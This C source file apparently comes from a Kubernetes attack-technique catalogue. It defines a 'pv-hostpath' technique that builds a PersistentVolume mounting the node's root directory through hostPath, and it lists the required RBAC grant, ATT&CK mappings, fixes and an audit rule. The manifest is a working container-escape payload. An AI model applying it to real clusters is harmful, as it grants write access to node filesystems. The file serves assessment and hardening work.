// Pod Security looks at pods and never at volumes, so restricted admits the pod with the claim. local needs a node affinity,
// hostPath none. Holds in a user namespace.
#include "attack/technique.h"
#include "attack/technique/build.h"

static bool body(struct payload *p)
{
	p->object = build_doc(p, "{apiVersion: 'v1', kind: 'PersistentVolume', metadata: {name: ?}, spec: {capacity: {storage: '1Gi'}, "
		"accessModes: ['ReadWriteOnce'], persistentVolumeReclaimPolicy: 'Retain', storageClassName: 'bulkhead', hostPath: {path: '/'}}}", build_name(p));
	return true;
}

const struct technique technique_pv_hostpath = {
	.id = "pv-hostpath",
	.title = "Mount any host folder through a PersistentVolume",
	.kind = TECHNIQUE_PATH,
	.boundary = BOUNDARY_CONTROL_PLANE,
	.harm = HARM_CONFIDENTIALITY | HARM_INTEGRITY | HARM_AVAILABILITY,
	.attack = "T1611,T1610",
	.matrix = "MS-TA9013",
	.needs = "create on persistentvolumes, and a place to run a pod with a claim",
	.gives = "writes any folder of the node that the pod lands on",
	.fixes =
		"Remove create on persistentvolumes; let a StorageClass provision volumes\n"
		"Deny hostPath and local volumes in PersistentVolumes by admission policy",
	.audit = "create of persistentvolumes with hostPath or local",
	.source =
		"kubernetes.io docs concepts/security/pod-security-policy migration notes; concepts/security/rbac-good-practices, "
		"persistent volume creation",
	.from = POSITION_IDENTITY,
	.effect = EFFECT_HOSTPATH_PV,
	.grant = {
		{ "create", "", "persistentvolumes", .scope = SCOPE_CLUSTER },
	},
	.body = body,
};
